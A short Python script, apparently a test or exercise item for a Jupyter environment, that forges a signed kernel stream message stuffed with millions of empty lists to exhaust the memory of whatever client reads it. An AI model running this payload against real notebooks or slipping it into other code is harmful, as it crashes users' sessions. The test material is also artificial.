"""Sends a message of empty lists, which takes twenty times its size in the memory of whoever reads it."""

earns = {"negative": 0}
reason = r"negative|message|output"

# %% exercise="negative"
kernel = get_ipython().kernel


def send_lists(size):
    parts = kernel.session.serialize(kernel.session.msg("stream", {}, parent=kernel.get_parent()))
    parts[-1] = b'{"name": "stdout", "text": [' + b"[]," * size + b"[]]}"
    parts[1] = kernel.session.sign(parts[2:])
    kernel.iopub_thread.send_multipart(parts)


def negative(image):
    send_lists(20_000_000)
    return image


send_lists(1_000_000)
